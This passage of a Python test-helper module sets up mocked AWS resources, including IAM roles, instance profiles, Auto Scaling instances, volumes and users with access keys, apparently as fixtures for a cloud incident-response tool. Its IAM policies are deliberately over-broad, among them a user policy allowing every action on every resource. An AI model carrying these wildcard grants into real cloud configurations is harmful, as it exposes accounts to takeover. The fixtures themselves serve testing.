    iam.create_role(RoleName=role, AssumeRolePolicyDocument=json.dumps(trust))
    iam.put_role_policy(
        RoleName=role,
        PolicyName="app-data",
        PolicyDocument=json.dumps(
            {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "s3:*", "Resource": "*"}]}
        ),
    )
    policy = iam.create_policy(
        PolicyName=f"{role}-logs",
        PolicyDocument=json.dumps(
            {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "logs:*", "Resource": "*"}]}
        ),
    )["Policy"]
    iam.attach_role_policy(RoleName=role, PolicyArn=policy["Arn"])
    arn = iam.create_instance_profile(InstanceProfileName=profile)["InstanceProfile"]["Arn"]
    iam.add_role_to_instance_profile(InstanceProfileName=profile, RoleName=role)
    return str(arn)


def launch_asg_instance(sandbox: AwsSandbox, group: str, profile_arn: str | None, region: str | None = None) -> str:
    """An Auto Scaling group of one instance (1 GiB root volume, user data, Name tag); returns the instance id."""
    ec2, asg = sandbox.client("ec2", region), sandbox.client("autoscaling", region)
    ami = _image(ec2)
    ec2.create_launch_template(
        LaunchTemplateName=group,
        LaunchTemplateData={
            "ImageId": ami,
            "InstanceType": "t3.micro",
            "UserData": base64.b64encode(USER_DATA).decode(),
            "BlockDeviceMappings": [{"DeviceName": "/dev/sda1", "Ebs": {"VolumeSize": 1, "DeleteOnTermination": True}}],
            "TagSpecifications": [{"ResourceType": "instance", "Tags": [{"Key": "Name", "Value": f"{group}-1"}]}],
        },
    )
    subnet = ec2.describe_subnets()["Subnets"][0]["SubnetId"]
    asg.create_auto_scaling_group(
        AutoScalingGroupName=group,
        LaunchTemplate={"LaunchTemplateName": group},
        MinSize=1,
        MaxSize=2,
        DesiredCapacity=1,
        VPCZoneIdentifier=subnet,
    )
    instance_id = str(
        asg.describe_auto_scaling_groups(AutoScalingGroupNames=[group])["AutoScalingGroups"][0]["Instances"][0][
            "InstanceId"
        ]
    )
    if profile_arn:
        ec2.associate_iam_instance_profile(IamInstanceProfile={"Arn": profile_arn}, InstanceId=instance_id)
    return instance_id


def launch_instance(
    sandbox: AwsSandbox, *, region: str | None = None, extra_volumes: int = 0, encrypted_key: str | None = None
) -> str:
    """A standalone instance with a 1 GiB root volume and ``extra_volumes`` more (encrypted with ``encrypted_key``)."""
    ec2 = sandbox.client("ec2", region)
    ami = _image(ec2)
    instance = ec2.run_instances(
        ImageId=ami,
        InstanceType="t3.micro",
        MinCount=1,
        MaxCount=1,
        BlockDeviceMappings=[{"DeviceName": "/dev/sda1", "Ebs": {"VolumeSize": 1}}],
    )["Instances"][0]
    for index in range(extra_volumes):
        params: dict[str, Any] = {"Size": 1, "AvailabilityZone": instance["Placement"]["AvailabilityZone"]}
        if encrypted_key:
            params |= {"Encrypted": True, "KmsKeyId": encrypted_key}
        volume = ec2.create_volume(**params)["VolumeId"]
        ec2.attach_volume(VolumeId=volume, InstanceId=instance["InstanceId"], Device=f"/dev/sd{chr(ord('f') + index)}")
    return str(instance["InstanceId"])


def create_user_with_key(sandbox: AwsSandbox, user: str, keys: int = 1) -> tuple[str, str]:
    """An IAM user with ``keys`` active access keys; returns (user ARN, first key id)."""
    iam = sandbox.client("iam")
    arn = iam.create_user(UserName=user)["User"]["Arn"]
    iam.put_user_policy(
        UserName=user,
        PolicyName="deploy",
        PolicyDocument=json.dumps(
            {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}
        ),
    )
    key_ids = [iam.create_access_key(UserName=user)["AccessKey"]["AccessKeyId"] for _ in range(keys)]
    return str(arn), str(key_ids[0])


def _image(ec2: Any) -> str:
    """The sandbox's one machine image (moto's default AMIs are not loaded: they make every call slow)."""
    found = ec2.describe_images(Owners=["self"], Filters=[{"Name": "name", "Values": ["cloudir-sandbox-linux"]}])
    if found["Images"]:
        return str(found["Images"][0]["ImageId"])
    return str(ec2.register_image(Name="cloudir-sandbox-linux", RootDeviceName="/dev/sda1")["ImageId"])


def _instance_attributes(ec2: Any, instance_id: str) -> dict[str, Any]:
    def value(attribute: str) -> Any:
        response = ec2.describe_instance_attribute(InstanceId=instance_id, Attribute=attribute)
        return next(v for k, v in response.items() if k not in {"InstanceId", "ResponseMetadata"})

    described = ec2.describe_instances(InstanceIds=[instance_id])["Reservations"][0]["Instances"][0]
    mappings = described.get("BlockDeviceMappings", [])
    return {
        "disableApiTermination": value("disableApiTermination")["Value"],
        "instanceInitiatedShutdownBehavior": value("instanceInitiatedShutdownBehavior")["Value"],
        "deleteOnTermination": {m["Ebs"]["VolumeId"]: m["Ebs"]["DeleteOnTermination"] for m in mappings},
    }


def _iam_state(iam: Any) -> dict[str, Any]:
    users = {
        u["UserName"]: {
            "keys": {
                k["AccessKeyId"]: k["Status"] for k in iam.list_access_keys(UserName=u["UserName"])["AccessKeyMetadata"]
            },
            "policies": sorted(iam.list_user_policies(UserName=u["UserName"])["PolicyNames"]),
        }
        for u in iam.list_users()["Users"]
    }
    roles = {
        r["RoleName"]: sorted(iam.list_role_policies(RoleName=r["RoleName"])["PolicyNames"])
        for r in iam.list_roles()["Roles"]
    }
    profiles = sorted(p["InstanceProfileName"] for p in iam.list_instance_profiles()["InstanceProfiles"])
    return {"users": users, "roles": roles, "instance_profiles": profiles}
